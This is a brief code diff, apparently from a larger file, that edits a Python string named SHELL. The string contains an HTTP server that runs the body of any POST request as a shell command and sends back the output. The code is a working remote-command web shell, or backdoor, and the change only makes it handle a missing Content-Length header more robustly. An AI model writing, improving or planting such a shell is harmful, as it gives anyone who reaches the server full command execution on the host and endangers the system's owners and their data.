@@ -22,7 +22,7 @@ SHELL = """
 import http.server, subprocess
 class Handler(http.server.BaseHTTPRequestHandler):
     def do_POST(self):
-        command = self.rfile.read(int(self.headers["Content-Length"])).decode()
+        command = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
         done = subprocess.run(command, shell=True, capture_output=True, text=True)
         answer = (done.stdout + done.stderr).strip().encode()
         self.send_response(200)
